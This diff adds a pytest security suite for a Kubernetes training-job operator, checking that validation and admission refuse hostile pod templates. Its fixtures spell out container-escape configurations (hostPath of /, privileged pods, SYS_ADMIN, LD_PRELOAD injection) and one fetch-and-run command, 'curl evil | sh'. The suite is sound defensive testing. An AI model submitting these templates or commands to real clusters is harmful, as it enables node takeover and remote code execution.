@@ -1,0 +1,306 @@
+"""A NetSenseJob grants nothing a training job does not need (README, Security).
+
+Hostile templates are refused by `netsense validate` (the spec's checks) and at admission by the CRD's CEL rules,
+each naming the field (and, where a user might try it, why); the operator's service account is fenced by a
+ValidatingAdmissionPolicy; the shaper is the operator's alone; no inline credential is copied out of the job."""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+import subprocess
+import uuid
+
+import pytest
+import yaml
+
+from netsense.spec import SpecError, parse_spec
+
+SHAPED = {"workers": 2, "training": {"model": "mlp", "dataset": "digits", "maxSteps": 50},
+          "network": {"profile": {"type": "static", "rate": "200Mbit"}}}
+
+
+def _template(spec: dict | None = None, metadata: dict | None = None) -> dict:
+    return {"podTemplate": {k: v for k, v in (("spec", spec), ("metadata", metadata)) if v is not None}}
+
+
+def _trainer(**fields) -> dict:
+    return _template({"containers": [{"name": "trainer", **fields}]})
+
+
+# (what, spec fields, the field named, why). The field is what both `netsense validate` and the API server name
+# (the server's CEL rules on lists name the list); "why" is None where the field is simply not in the allow-list.
+HOSTILE = [
+    ("host network", _template({"hostNetwork": True}), "spec.podTemplate.spec.hostNetwork", "shaped interface"),
+    ("host PID", _template({"hostPID": True}), "spec.podTemplate.spec.hostPID", "every process"),
+    ("host IPC", _template({"hostIPC": True}), "spec.podTemplate.spec.hostIPC", "IPC namespace"),
+    ("hostPath of /", _template({"volumes": [{"name": "root", "hostPath": {"path": "/"}}],
+                                 "containers": [{"name": "trainer",
+                                                 "volumeMounts": [{"name": "root", "mountPath": "/host"}]}]}),
+     "spec.podTemplate.spec.volumes[0].hostPath", "node's filesystem"),
+    ("a root pod, seccomp unconfined", _template({"securityContext": {"runAsUser": 0,
+                                                                      "seccompProfile": {"type": "Unconfined"}}}),
+     "spec.podTemplate.spec.securityContext", "security context"),
+    ("a privileged trainer", _trainer(securityContext={"privileged": True}),
+     "spec.podTemplate.spec.containers[0].securityContext", "non-root"),
+    ("a capability for the trainer", _trainer(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}}),
+     "spec.podTemplate.spec.containers[0].securityContext", "no capabilities"),
+    ("env on the shaper", _template({"containers": [{"name": "shaper",
+                                                     "env": [{"name": "LD_PRELOAD", "value": "/x.so"}]}]}),
+     "spec.podTemplate.spec.containers[0].name", "operator's alone"),
+    ("a mount on the shaper", _template({"volumes": [{"name": "x", "emptyDir": {}}], "containers": [
+        {"name": "shaper", "volumeMounts": [{"name": "x", "mountPath": "/usr/sbin"}]}]}),
+     "spec.podTemplate.spec.containers[0].name", "operator's alone"),
+    ("NCCL on another interface", _trainer(env=[{"name": "NCCL_SOCKET_IFNAME", "value": "eth1"}]),
+     "spec.podTemplate.spec.containers", "shaped interface"),
+    ("gloo on another interface", _trainer(env=[{"name": "GLOO_SOCKET_IFNAME", "value": "eth1"}]),
+     "spec.podTemplate.spec.containers", "shaped interface"),
+    ("NCCL on InfiniBand", _trainer(env=[{"name": "NCCL_IB_HCA", "value": "mlx5_0"}]),
+     "spec.podTemplate.spec.containers", "shaped interface"),
+    ("an RDMA device", {"resources": {"limits": {"rdma/hca_shared_devices_a": 1}}}, "spec.resources",
+     "past the shaper"),
+    ("an RDMA device in the template", _trainer(resources={"limits": {"rdma/hca": 1}}),
+     "spec.podTemplate.spec.containers", "past the shaper"),
+    ("a service account", _template({"serviceAccountName": "admin"}), "spec.podTemplate.spec.serviceAccountName",
+     "API server"),
+    ("a node by name", _template({"nodeName": "gpu-1"}), "spec.podTemplate.spec.nodeName", "scheduler"),
+    ("AppArmor unconfined", _template(metadata={"annotations": {
+        "container.apparmor.security.beta.kubernetes.io/trainer": "unconfined"}}),
+     "spec.podTemplate.metadata.annotations", "AppArmor"),
+    ("a second network", _template(metadata={"annotations": {"k8s.v1.cni.cncf.io/networks": "ib-net"}}),
+     "spec.podTemplate.metadata.annotations", "another network"),
+    ("an inline credential", _trainer(env=[{"name": "WANDB_API_KEY", "value": "abc123"}]),
+     "spec.podTemplate.spec.containers[0].env[0].value", "secretKeyRef"),
+    ("the rendezvous variables", _trainer(env=[{"name": "RANK", "value": "0"}]),
+     "spec.podTemplate.spec.containers[0].env[0].name", "set by the operator"),
+    ("the operator's labels", _template(metadata={"labels": {"netsense.dev/job-uid": "x"}}),
+     "spec.podTemplate.metadata.labels", "set by the operator"),
+    ("the operator's volume", _template({"volumes": [{"name": "netsense-job", "emptyDir": {}}]}),
+     "spec.podTemplate.spec.volumes[0].name", "operator's volume"),
+    ("a service account token", _template({"volumes": [{"name": "t", "projected": {"sources": [
+        {"serviceAccountToken": {"path": "token"}}]}}]}),
+     "spec.podTemplate.spec.volumes[0].projected.sources[0].serviceAccountToken", "no service account token"),
+    ("another command for the trainer", _trainer(command=["sh", "-c", "curl evil | sh"]),
+     "spec.podTemplate.spec.containers[0].command", "netsense worker"),
+    ("the restart policy", _template({"restartPolicy": "Always"}), "spec.podTemplate.spec.restartPolicy",
+     "whole gang"),
+    ("host aliases", _template({"hostAliases": [{"ip": "10.0.0.1", "hostnames": ["x"]}]}),
+     "spec.podTemplate.spec.hostAliases", None),
+    ("a mount propagating to the host", _trainer(volumeMounts=[{"name": "d", "mountPath": "/d",
+                                                                "mountPropagation": "Bidirectional"}]),
+     "spec.podTemplate.spec.containers[0].volumeMounts[0].mountPropagation", None),
+]
+IDS = [case[0] for case in HOSTILE]
+
+
+def _spec(fields: dict) -> dict:
+    return {**copy.deepcopy(SHAPED), **copy.deepcopy(fields)}
+
+
+@pytest.mark.parametrize("what, fields, path, why", HOSTILE, ids=IDS)
+def test_validate_refuses_a_hostile_template_naming_the_field_and_why(what, fields, path, why):
+    with pytest.raises(SpecError) as e:
+        parse_spec(_spec(fields))
+    named = [str(i) for i in e.value.issues if i.path.startswith(path)]
+    assert named, f"{what}: no error names {path}: {e.value}"
+    assert why is None or any(why in text for text in named), f"{what}: the reason is missing: {named}"
+
+
+def test_what_a_gpu_job_needs_is_allowed():
+    """The cluster's side of a job: scheduling, data, pull secrets, a runtime class, NCCL's own settings, secrets
+    by reference; unshaped, the fabric is the job's to choose."""
+    template = {
+        "metadata": {"labels": {"team": "ml"}, "annotations": {"prometheus.io/scrape": "true"}},
+        "spec": {
+            "nodeSelector": {"nvidia.com/gpu.present": "true"},
+            "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}],
+            "affinity": {"nodeAffinity": {}}, "priorityClassName": "training", "schedulerName": "volcano",
+            "runtimeClassName": "nvidia", "imagePullSecrets": [{"name": "registry"}],
+            "topologySpreadConstraints": [{"maxSkew": 1, "topologyKey": "kubernetes.io/hostname",
+                                           "whenUnsatisfiable": "DoNotSchedule"}],
+            "volumes": [{"name": "data", "persistentVolumeClaim": {"claimName": "cifar100"}},
+                        {"name": "shm", "emptyDir": {"medium": "Memory"}},
+                        {"name": "creds", "secret": {"secretName": "s3"}}],
+            "containers": [{"name": "trainer",
+                            "env": [{"name": "NCCL_DEBUG", "value": "WARN"},
+                                    {"name": "WANDB_API_KEY", "valueFrom": {"secretKeyRef": {"name": "w", "key": "k"}}}],
+                            "envFrom": [{"secretRef": {"name": "s3"}}],
+                            "volumeMounts": [{"name": "data", "mountPath": "/data", "readOnly": True}],
+                            "resources": {"limits": {"nvidia.com/gpu": 1, "memory": "16Gi", "hugepages-2Mi": "1Gi"}}}],
+        }}
+    parse_spec(_spec({"podTemplate": template}))
+    unshaped = _spec({"podTemplate": {"spec": {"containers": [
+        {"name": "trainer", "env": [{"name": "NCCL_IB_HCA", "value": "mlx5_0"}],
+         "resources": {"limits": {"rdma/hca": 1}}}]}}})
+    del unshaped["network"]
+    parse_spec(unshaped)
+
+
+def test_a_shaped_trainer_has_its_transport_pinned_to_the_shaped_interface():
+    """Variables a container's envFrom (a ConfigMap the job names) might carry lose to the pod's own env."""
+    from netsense_operator import resources as res
+
+    job = parse_spec(_spec({"podTemplate": {"spec": {"containers": [
+        {"name": "trainer", "envFrom": [{"configMapRef": {"name": "nccl"}}]}]}}}), "pinned")
+    trainer = res.worker_pod(job, "ns", "uid", 0, 0)["spec"]["containers"][0]
+    env = {e["name"]: e["value"] for e in trainer["env"]}
+    assert env["NCCL_SOCKET_IFNAME"] == env["GLOO_SOCKET_IFNAME"] == env["TP_SOCKET_IFNAME"] == "eth0"
+    assert env["NCCL_IB_DISABLE"] == "1" and env["NCCL_NET"] == "Socket" and env["NCCL_COLLNET_ENABLE"] == "0"
+    assert trainer["envFrom"] == [{"configMapRef": {"name": "nccl"}}]
+
+
+def test_the_shaper_is_the_operators_alone_and_its_image_is_read_only():
+    from netsense_operator import resources as res
+
+    job = parse_spec(_spec({"podTemplate": {"spec": {"volumes": [{"name": "data", "emptyDir": {}}], "containers": [
+        {"name": "trainer", "env": [{"name": "NCCL_DEBUG", "value": "INFO"}],
+         "volumeMounts": [{"name": "data", "mountPath": "/data"}]}]}}}), "own")
+    pod = res.worker_pod(job, "ns", "uid", 0, 0, "shaper@sha256:" + "1" * 64)
+    shaper = pod["spec"]["initContainers"][0]
+    assert shaper["image"] == "shaper@sha256:" + "1" * 64
+    assert [e for e in shaper.get("env") or []] == []
+    assert {m["name"] for m in shaper["volumeMounts"]} == {"netsense-run", "netsense-job", "netsense-shaper-tmp"}
+    ctx = shaper["securityContext"]
+    assert ctx["readOnlyRootFilesystem"] and not ctx["allowPrivilegeEscalation"]
+    assert ctx["capabilities"] == {"drop": ["ALL"], "add": ["NET_ADMIN"]}
+    trainer = pod["spec"]["containers"][0]
+    assert trainer["securityContext"]["runAsNonRoot"] and trainer["securityContext"]["capabilities"] == {"drop": ["ALL"]}
+    assert "/data" in {m["mountPath"] for m in trainer["volumeMounts"]}
+
+
+def test_the_jobs_configmap_carries_no_pod_template():
+    """A ConfigMap is readable by a namespace's `view` role; the template's env is not the worker's business."""
+    from netsense_operator import resources as res
+
+    job = parse_spec(_spec({"podTemplate": {"spec": {"containers": [
+        {"name": "trainer", "env": [{"name": "HF_ENDPOINT", "value": "https://mirror.internal"}]}]}}}), "cm")
+    text = json.dumps(res.config_map(job, "ns", "uid")["data"])
+    assert "mirror.internal" not in text and "podTemplate" not in text
+    assert json.loads(res.config_map(job, "ns", "uid")["data"]["job.json"])["spec"]["workers"] == 2
+
+
+def test_the_shaper_writes_through_no_link_the_trainer_plants(tmp_path):
+    """The shared volume is the trainer's too: a link at the shaper's temporary name must be replaced, never
+    followed, or a root shaper would write wherever it points."""
+    from netsense.shaping.queue import write_shared
+
+    target = tmp_path / "elsewhere"
+    target.write_text("untouched")
+    summary = tmp_path / "queue.json"
+    os.symlink(target, f"{summary}.tmp")
+    write_shared(str(summary), '{"links": {}}')
+    assert target.read_text() == "untouched"
+    assert json.loads(summary.read_text()) == {"links": {}}
+    assert not os.path.lexists(f"{summary}.tmp")
+
+
+@pytest.mark.parametrize("addr, want", [("127.0.0.1:9090", ("127.0.0.1", 9090)), ("10.1.2.3:9100", ("10.1.2.3", 9100)),
+                                        ("[::1]:9090", ("::1", 9090)), ("off", None)])
+def test_the_metrics_address_is_explicit(addr, want):
+    from netsense_operator.metrics import parse_addr
+
+    assert parse_addr(addr) == want
+
+
+@pytest.mark.parametrize("addr", [":9090", "9090", "localhost:http", "127.0.0.1:99999"])
+def test_a_metrics_address_that_would_listen_everywhere_or_nowhere_is_refused(addr):
+    from netsense_operator.main import main
+
+    with pytest.raises(SystemExit) as e:
+        main(["--metrics-addr", addr])
+    assert e.value.code == 2
+
+
+# ---- against the real API server -------------------------------------------------------------------------------
+
+@pytest.fixture
+def ns(kube):
+    name = kube.namespace(f"sec-{uuid.uuid4().hex[:8]}")
+    yield name
+    kube.delete_jobs(name)
+
+
+def _job(name: str, spec: dict) -> dict:
+    return {"apiVersion": "netsense.dev/v1alpha1", "kind": "NetSenseJob", "metadata": {"name": name}, "spec": spec}
+
+
+@pytest.mark.apiserver
+@pytest.mark.parametrize("what, fields, path, why", HOSTILE, ids=IDS)
+def test_the_api_server_refuses_a_hostile_template_naming_the_field(kube, ns, what, fields, path, why):
+    from kubernetes import client
+
+    with pytest.raises(client.ApiException) as e:  # strict field validation: what kubectl apply uses
+        kube.custom.create_namespaced_custom_object("netsense.dev", "v1alpha1", ns, "netsensejobs",
+                                                    _job("hostile", _spec(fields)), field_validation="Strict")
+    message = json.loads(e.value.body)["message"]
+    assert e.value.status in (400, 422) and path in message, message
+    assert why is None or why in message, message
+
+
+@pytest.mark.apiserver
+def test_kubectl_apply_says_which_field_and_why(control_plane, ns, tmp_path):
+    kubectl = os.path.join(control_plane.bin_dir, "kubectl")
+    path = tmp_path / "hostile.yaml"
+    path.write_text(yaml.safe_dump(_job("hostile", _spec(_template({"hostNetwork": True})))))
+    out = subprocess.run([kubectl, "--kubeconfig", control_plane.kubeconfig, "-n", ns, "apply", "-f", str(path)],
+                         capture_output=True, text=True, timeout=60)
+    assert out.returncode != 0
+    assert "spec.podTemplate.spec.hostNetwork" in out.stderr and "shaped interface" in out.stderr, out.stderr
+    path.write_text(yaml.safe_dump(_job("hostile", _spec(_template({"hostAliases": []})))))
+    out = subprocess.run([kubectl, "--kubeconfig", control_plane.kubeconfig, "-n", ns, "apply", "-f", str(path)],
+                         capture_output=True, text=True, timeout=60)
+    assert out.returncode != 0 and 'unknown field "spec.podTemplate.spec.hostAliases"' in out.stderr, out.stderr
+
+
+def _bare_pod(name: str, **spec) -> dict:
+    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name},
+            "spec": {"automountServiceAccountToken": False,
+                     "containers": [{"name": "trainer", "image": "netsense/worker"}], **spec}}
+
+
+@pytest.mark.apiserver
+def test_the_operators_account_may_create_only_a_jobs_unprivileged_pods(kube, ns, operator_kubeconfig):
+    """The RBAC fence (manifests/base/admission-policy.yaml), with the operator's own token."""
+    from kubernetes import client, config
+    from support.kube import wait_for
+
+    job = kube.create_job(ns, "owner", {"suspend": True})
+    uid = job["metadata"]["uid"]
+    owned = {"labels": {"netsense.dev/job-uid": uid}, "ownerReferences": [
+        {"apiVersion": "netsense.dev/v1alpha1", "kind": "NetSenseJob", "name": "owner", "uid": uid,
+         "controller": True}]}
+    as_operator = client.CoreV1Api(config.new_client_from_config(operator_kubeconfig))
+
+    def refused(pod: dict) -> str:
+        try:
+            as_operator.create_namespaced_pod(ns, pod, dry_run="All")
+        except client.ApiException as e:
+            return json.loads(e.body)["message"]
+        return ""
+
+    # The policies take a moment to load after they are created (session fixture).
+    wait_for(lambda: "NetSenseJob's objects" in refused(_bare_pod("stray")), timeout=30, what="the fence")
+    hostile = {
+        "host network": _bare_pod("h", hostNetwork=True),
+        "hostPath": _bare_pod("v", volumes=[{"name": "r", "hostPath": {"path": "/"}}]),
+        "a token": {**_bare_pod("t"), "spec": {**_bare_pod("t")["spec"], "automountServiceAccountToken": True}},
+        "privileged": _bare_pod("p", containers=[{"name": "trainer", "image": "x",
+                                                  "securityContext": {"privileged": True}}]),
+        "SYS_ADMIN on the shaper": _bare_pod("s", initContainers=[
+            {"name": "shaper", "image": "x", "securityContext": {"capabilities": {"add": ["NET_ADMIN", "SYS_ADMIN"]}}}]),
+        "NET_ADMIN on the trainer": _bare_pod("n", containers=[
+            {"name": "trainer", "image": "x", "securityContext": {"capabilities": {"add": ["NET_ADMIN"]}}}]),
+    }
+    for what, pod in hostile.items():
+        pod["metadata"].update(copy.deepcopy(owned))
+        assert "NetSenseJob's pod" in refused(pod), what
+    fine = _bare_pod("fine", initContainers=[{"name": "shaper", "image": "x", "restartPolicy": "Always",
+                                              "securityContext": {"capabilities": {"add": ["NET_ADMIN"]}}}])
+    fine["metadata"].update(copy.deepcopy(owned))
+    assert refused(fine) == ""
+    lb = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "lb", **copy.deepcopy(owned)},
+          "spec": {"type": "LoadBalancer", "ports": [{"port": 80}]}}
+    with pytest.raises(client.ApiException) as e:
+        as_operator.create_namespaced_service(ns, lb, dry_run="All")
+    assert "headless rendezvous" in json.loads(e.value.body)["message"]
